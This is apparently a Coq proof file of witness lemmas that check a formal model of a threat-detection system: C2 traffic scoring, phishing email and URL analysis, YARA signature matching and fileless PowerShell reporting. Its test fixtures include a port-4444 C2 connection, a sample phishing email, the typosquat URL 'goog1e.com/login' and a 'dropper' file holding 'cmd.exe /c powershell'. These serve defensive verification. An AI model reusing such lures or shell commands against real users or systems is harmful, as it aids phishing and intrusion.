Lemma c2_communication_score_witness :
  let conns := [VDict [("port", VNum 4444)]; VStr "stray"] in
  dict_get_default traffic "connections" (VList []) = VList conns
  /\ dict_get_default traffic "dns_queries" (VList []) = VList []
  /\ dict_get (EncryptedThreatDetector.detect_c2_communication
                 number_text quiet_world (VDict traffic)) "c2_detected"
     = Some (VBool true).
Proof.
  repeat (split; [reflexivity|]).
  exact (proj1 (proj2
           (c2_communication_score
              number_text quiet_world traffic
              [VDict [("port", VNum 4444)]; VStr "stray"] []
              eq_refl eq_refl))).
Defined.

Lemma email_needs_two_indicators_witness :
  dict_get_default phishing_mail "content" (VStr "")
  = VStr "Click here to verify account immediately"
  /\ dict_get_default phishing_mail "subject" (VStr "") = VStr "URGENT: your account"
  /\ dict_get_default phishing_mail "sender" (VStr "") = VStr "it-desk@gmail.com"
  /\ dict_get (SocialEngineeringDetector._analyze_email (VDict phishing_mail))
              "suspicious"
     = Some (VBool true).
Proof.
  repeat (split; [reflexivity|]).
  exact (proj1 (email_needs_two_indicators
                  phishing_mail "Click here to verify account immediately"
                  "URGENT: your account" "it-desk@gmail.com"
                  eq_refl eq_refl eq_refl)).
Defined.

Lemma url_suspicion_rule_witness :
  SocialSpec.is_text (VNum 7) = false
  /\ dict_get (SocialEngineeringDetector._analyze_url (VNum 7)) "suspicious"
     = Some (VBool false).
Proof.
  split; [reflexivity|].
  exact (proj1 (proj2 url_suspicion_rule (VNum 7) eq_refl)).
Defined.

Lemma social_engineering_low_iff_nothing_recorded_witness :
  dict_get_default links "urls" (VList [])
  = VList [VStr "http://goog1e.com/login"; VNum 7]
  /\ dict_mem (SocialEngineeringDetector.detect_social_engineering
                 quiet_world (VDict links)) "error" = false.
Proof.
  split; [reflexivity|].
  exact (proj1 (social_engineering_low_iff_nothing_recorded
                  quiet_world links [VStr "http://goog1e.com/login"; VNum 7]
                  eq_refl)).
Defined.

Lemma malformed_urls_are_skipped_witness :
  let urls := [VStr "http://goog1e.com/login"; VNum 7] in
  let cleaned := dict_set links "urls" (VList (filter SocialSpec.is_text urls)) in
  dict_get links "urls" = Some (VList urls)
  /\ In "threat_level"
        ["threats_detected"; "threat_types"; "threat_level"; "overall_risk_score"]
  /\ dict_get (SocialEngineeringDetector.detect_social_engineering
                 quiet_world (VDict cleaned)) "threat_level"
     = dict_get (SocialEngineeringDetector.detect_social_engineering
                   quiet_world (VDict links)) "threat_level".
Proof.
  split; [reflexivity|]. split; [right; right; left; reflexivity|].
  exact (malformed_urls_are_skipped
           quiet_world links [VStr "http://goog1e.com/login"; VNum 7] "threat_level"
           eq_refl (or_intror (or_intror (or_introl eq_refl)))).
Defined.

Lemma file_only_bundle_is_never_high_witness :
  let self := init (file_scanners dropper_digest ascii_text ascii_text) in
  let data := [("file_path", VStr "/tmp/dropper.txt")] in
  detection_weights self = default_weights
  /\ shipped_file_modules dropper_digest ascii_text ascii_text self
  /\ file_only data "/tmp/dropper.txt"
  /\ unlisted dropper_digest dropper_world "/tmp/dropper.txt"
  /\ dict_get (detect_threats self dropper_world data) "threat_level"
     = Some (VStr "low").
Proof.
  assert (Hs : shipped_file_modules
                 dropper_digest ascii_text ascii_text
                 (init (file_scanners dropper_digest ascii_text ascii_text)))
    by (split; intros; reflexivity).
  assert (Hd : file_only [("file_path", VStr "/tmp/dropper.txt")] "/tmp/dropper.txt")
    by (repeat split).
  assert (Hu : unlisted dropper_digest dropper_world "/tmp/dropper.txt")
    by (intros raw _; reflexivity).
  split; [reflexivity|]. split; [exact Hs|]. split; [exact Hd|]. split; [exact Hu|].
  exact (proj2 (proj2
           (file_only_bundle_is_never_high
              dropper_digest ascii_text ascii_text
              (init (file_scanners dropper_digest ascii_text ascii_text))
              dropper_world [("file_path", VStr "/tmp/dropper.txt")]
              "/tmp/dropper.txt" eq_refl Hs Hd))
           Hu).
Defined.

Lemma rule_match_implies_flagged_file_witness :
  fs dropper_world "/tmp/dropper.txt" = Some (RegularFile "cmd.exe /c powershell")
  /\ dict_get (SignatureDetector.detect_threats
                 dropper_digest ascii_text dropper_world "/tmp/dropper.txt") "method"
     = Some (VStr "yara")
  /\ in_strings
       (dict_get_none (FileAnalyzer.predict ascii_text ascii_text
                                            dropper_world "/tmp/dropper.txt")
                      "prediction")
       ["malicious"; "suspicious"] = true.
Proof.
  split; [reflexivity|]. split; [reflexivity|].
  exact (rule_match_implies_flagged_file
           dropper_digest ascii_text ascii_text dropper_world "/tmp/dropper.txt"
           "cmd.exe /c powershell" eq_refl eq_refl).
Defined.

Lemma advanced_threats_not_isolated_witness :
  let data := [("system_data", VDict []); ("network_data", VDict [])] in
  dict_get data "network_data" = Some (VDict [])
  /\ encrypted_detector (detectors (init behavioral_only)) busy_world (VDict [])
     = Raise (RuntimeError "module not installed")
  /\ dict_get (detect_advanced_threats (init behavioral_only) busy_world data)
              "advanced_threats"
     = Some (VList []).
Proof.
  split; [reflexivity|]. split; [reflexivity|].
  exact (proj1 (advanced_threats_not_isolated
                  (init behavioral_only) busy_world
                  [("system_data", VDict []); ("network_data", VDict [])]
                  (VDict []) (RuntimeError "module not installed") eq_refl eq_refl)).
Defined.

Lemma advanced_threats_read_two_parts_witness :
  let data := [("system_data", VDict [])] in
  let data' := [ ("file_path", VStr "/tmp/dropper.txt");
                 ("system_data", VDict [("processes", VList [VNum 1])]) ] in
  dict_mem data' "system_data" = dict_mem data "system_data"
  /\ dict_get data' "network_data" = dict_get data "network_data"
  /\ detect_advanced_threats (init behavioral_only) busy_world data'
     = detect_advanced_threats (init behavioral_only) busy_world data.
Proof.
  split; [reflexivity|]. split; [reflexivity|].
  exact (advanced_threats_read_two_parts
           (init behavioral_only) busy_world
           [("system_data", VDict [])]
           [ ("file_path", VStr "/tmp/dropper.txt");
             ("system_data", VDict [("processes", VList [VNum 1])]) ]
           eq_refl eq_refl).
Defined.

Lemma every_script_host_is_reported_witness :
  dict_mem empty_snapshot_bundle "system_data" = true
  /\ dict_mem empty_snapshot_bundle "network_data" = false
  /\ process_iter busy_world = Ok [powershell]
  /\ forallb named [powershell] = true
  /\ exists zero_day,
       dict_get (detect_advanced_threats (init behavioral_only) busy_world
                                         empty_snapshot_bundle) "advanced_threats"
       = Some (VList (zero_day ++ map fileless_record (filter script_host [powershell])))
       /\ (List.length zero_day <= 1)%nat
       /\ dict_get (detect_advanced_threats (init behavioral_only) busy_world
                                            empty_snapshot_bundle) "threat_count"
          = Some (VNum (Num.of_nat
                          (List.length zero_day
                           + List.length (filter script_host [powershell]))))
       /\ dict_mem (detect_advanced_threats (init behavioral_only) busy_world
                                            empty_snapshot_bundle) "error" = false.
Proof.
  repeat (split; [reflexivity|]).
  exact (every_script_host_is_reported
           (init behavioral_only) busy_world empty_snapshot_bundle [powershell]
           (fun _ => eq_refl) (fun _ _ => eq_refl) eq_refl eq_refl eq_refl eq_refl).
Defined.
